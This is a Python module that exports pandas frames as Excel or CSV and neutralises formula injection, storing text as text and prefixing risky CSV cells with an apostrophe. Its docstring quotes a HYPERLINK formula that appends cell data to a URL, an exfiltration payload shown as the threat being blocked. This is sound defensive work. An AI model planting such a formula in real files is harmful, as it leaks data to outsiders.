"""Spreadsheet files written from frames (Excel workbooks, CSV), for downloads and the
command line, safe to open: no text cell becomes a formula.

A cell such as ``=HYPERLINK("http://…?"&A2, "klik")`` in an agent's name would otherwise
run when a supervisor opens the file. In a workbook such text is stored as text; in CSV,
which has no types, text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a leading apostrophe, as spreadsheet programs expect.
"""

from __future__ import annotations

import io

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet may read as the start of a formula."""


def workbook(sheets: dict[str, pd.DataFrame]) -> bytes:
    """An Excel workbook with a sheet per frame, in order (names cut to Excel's 31); every
    text cell is stored as text, never as a formula."""
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for sheet, frame in sheets.items():
            frame.to_excel(writer, sheet_name=sheet[:31], index=False)
            for row in writer.sheets[sheet[:31]].iter_rows():
                for cell in row:
                    if cell.data_type == "f":  # openpyxl's reading of text starting with "="
                        cell.data_type = "s"
    return buffer.getvalue()


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` as CSV, text that a spreadsheet would take for a formula made inert."""
    return frame.map(_inert).to_csv(index=False)


def _inert(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
